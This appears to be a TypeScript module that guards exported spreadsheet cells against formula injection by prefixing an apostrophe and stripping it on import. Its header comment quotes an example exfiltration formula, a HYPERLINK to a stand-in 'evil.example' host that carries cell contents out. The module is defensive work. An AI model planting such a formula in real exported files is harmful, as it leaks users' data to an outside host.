/*
 * Spreadsheet formula injection (docs/architecture.md, "Security rules"). A spreadsheet runs a cell that starts with
 * = + - @ (or a tab or CR before one) as a formula, so an exported title such as
 * =HYPERLINK("http://evil.example/?x="&A1) would act when the file is opened. Export puts
 * one apostrophe in front of such a cell — spreadsheets show the text and hide the mark —
 * and import takes exactly one off again. Cells that already start with apostrophes before
 * a formula character get one more, so every text survives the round trip unchanged.
 */
const NEEDS_GUARD = /^'*[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;

/** The cell as a spreadsheet may safely open it. */
export function guardFormula(text: string): string {
  return NEEDS_GUARD.test(text) ? `'${text}` : text;
}

/** The original text of a cell `guardFormula` wrote; other cells unchanged. */
export function unguardFormula(cell: string): string {
  return GUARDED.test(cell) ? cell.slice(1) : cell;
}
